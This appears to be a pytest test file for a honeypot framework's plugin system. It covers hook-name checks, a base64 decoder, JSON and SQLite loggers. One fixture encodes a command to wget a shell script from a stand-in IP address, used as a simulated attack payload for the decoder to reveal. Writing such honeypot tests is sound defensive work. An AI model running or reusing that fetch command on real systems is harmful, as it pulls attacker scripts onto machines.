"""The plugin contract: misspelt hook names are warned about at load, the shipped plugins have
none, and honeytrap.testing runs a plugin's hooks on a hand-made attack."""

from __future__ import annotations

import base64
import inspect
import json
import logging
import sqlite3
from pathlib import Path

import pytest

from honeytrap import hooks
from honeytrap.config import Config, PluginSpec
from honeytrap.plugin import load_module, load_plugins
from honeytrap.resources import plugin_dir
from honeytrap.testing import make_attack, run_plugins

MISSPELT = '''
class Sloppy:
    def anaylze(self, attack): pass
    def postProc(self, attack): pass
    def save_data(self, attack): pass
    def preproc(self, attack): pass
    def helper(self): pass
    def process(self): pass

def load(ctx):
    return Sloppy()
'''


def test_a_method_that_looks_like_a_misspelt_hook_is_warned_about_at_load(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / "Sloppy.py").write_text(MISSPELT)
    with caplog.at_level(logging.WARNING, logger="honeytrap.plugin"):
        registry = load_plugins(
            Config(plugin_dir=str(tmp_path), plugins=[PluginSpec("Sloppy", {})])
        )
    registry.close()
    warned = sorted(r.getMessage() for r in caplog.records if "did you mean" in r.getMessage())
    assert warned == [
        "plugin Sloppy: method anaylze() is no hook and is never called: did you mean analyze()?",
        "plugin Sloppy: method postProc() is no hook and is never called: did you mean "
        "postproc()?",
        "plugin Sloppy: method save_data() is no hook and is never called: did you mean "
        "savedata()?",
    ]
    assert [name for name, _ in registry.hooks["preproc"]] == ["Sloppy"]


# Plugins that only load another one under a second name (T-Pot's configuration uses it).
ALIASES = {"SavePostgres": "submitPostgres"}


@pytest.mark.parametrize("name", sorted(p.stem for p in Path(plugin_dir()).glob("*.py")))
def test_shipped_plugins_have_no_misspelt_hooks(name: str) -> None:
    """Every class of the plugin's module with a hook (its own, or the downloader it uses)."""
    module = load_module(plugin_dir(), ALIASES.get(name, name))
    classes = [c for _, c in inspect.getmembers(module, inspect.isclass)
               if any(hasattr(c, hook) for hook in hooks.HOOKS)]
    assert classes
    assert [(c.__name__, hooks.misspelt_hooks(c)) for c in classes] == [
        (c.__name__, []) for c in classes
    ]


def test_hook_protocols_describe_the_shipped_plugins() -> None:
    module = load_module(plugin_dir(), "logJSON")
    instance = next(c for _, c in inspect.getmembers(module, inspect.isclass)
                    if c.__module__ == module.__name__)
    assert issubclass(instance, hooks.PostProc)
    assert not issubclass(instance, hooks.PreProc)


def test_testing_helper_runs_a_decoder_and_a_logger_on_a_hand_made_attack(
    tmp_path: Path,
) -> None:
    """honeytrap.testing: b64Decode's virtual attack goes through every hook before its root,
    and logJSON writes the root (only) with what the decoder noted."""
    token = base64.b64encode(b"wget http://203.0.113.9/x.sh")
    attack = make_attack(b"GET / HTTP/1.1\r\nAuthorization: Negotiate " + token + b"\r\n\r\n")
    log = tmp_path / "attackers.json"
    run = run_plugins([("b64Decode", {}), ("logJSON", {"logfile": str(log)})], attack)
    assert [a.payload for a in run.virtuals] == [b"wget http://203.0.113.9/x.sh"]
    assert run.seen[-1] is attack and run.virtuals[0].parent is attack
    (line,) = log.read_text().splitlines()
    record = json.loads(line)
    assert record["id"] == attack.id
    assert record["attack_connection"]["local_port"] == 80


def docs_example(first_line: str) -> str:
    """The python block of docs/plugins.md that starts with `first_line`."""
    text = (Path(__file__).resolve().parent.parent / "docs" / "plugins.md").read_text()
    blocks = [b.split("```", 1)[0] for b in text.split("```python\n")[1:]]
    (block,) = [b for b in blocks if b.startswith(first_line)]
    return block


def test_the_database_output_of_the_plugin_guide_stores_each_attack_once(
    tmp_path: Path,
) -> None:
    """docs/plugins.md's worked output example, as written there: built on honeytrap.outputs,
    run by honeytrap.testing; the attack reaches the database through the writer's thread."""
    plugins = tmp_path / "plugins"
    plugins.mkdir()
    (plugins / "sqliteLog.py").write_text(docs_example('"""sqliteLog'))
    database = tmp_path / "attacks.sqlite"
    options = {"database": str(database), "spool_dir": str(tmp_path / "spool")}
    attack = make_attack(b"USER root\r\n", local=("198.18.0.2", 21))
    run_plugins([("sqliteLog", options)], attack, plugin_dir=str(plugins))
    run_plugins([("sqliteLog", options)], attack, plugin_dir=str(plugins))  # sent again
    with sqlite3.connect(database) as db:
        rows = db.execute("SELECT id, record FROM attacks").fetchall()
    assert [(key, json.loads(text)["attack_connection"]["local_port"]) for key, text in rows] \
        == [(attack.id, 21)]
